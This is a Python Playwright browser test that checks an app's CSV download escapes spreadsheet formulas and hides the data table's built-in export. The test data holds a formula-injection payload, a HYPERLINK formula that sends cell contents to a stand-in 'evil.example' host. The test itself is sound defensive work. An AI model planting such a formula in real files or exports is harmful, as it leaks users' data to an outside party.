"""Downloads a reader opens in a spreadsheet: formulas neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from playwright.sync_api import expect

from tests.browser.helpers import open_app
from tests.conftest import feature, write_data


def test_csv_downloads_neutralise_formulas(page, make_app, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    root = write_data(
        tmp_path / "data", layers={"ports": [feature("evil_port", kind="port", name=evil, coords=((101.5, 19.5),))]}
    )
    server = make_app(root)
    open_app(page, f"{server.url}/projects")
    with page.expect_download() as dl:
        page.get_by_role("button", name="Download CSV").click()
    rows = list(csv.DictReader(io.StringIO(Path(dl.value.path()).read_text(encoding="utf-8"))))
    assert rows[0]["name"] == "'" + evil
    # the tables' own export (which would not neutralise) is switched off
    grid = page.locator('[data-testid="stDataFrame"]')
    grid.hover()
    expect(page.locator('[data-testid="stElementToolbar"] button[aria-label*="Download"]')).to_have_count(0)
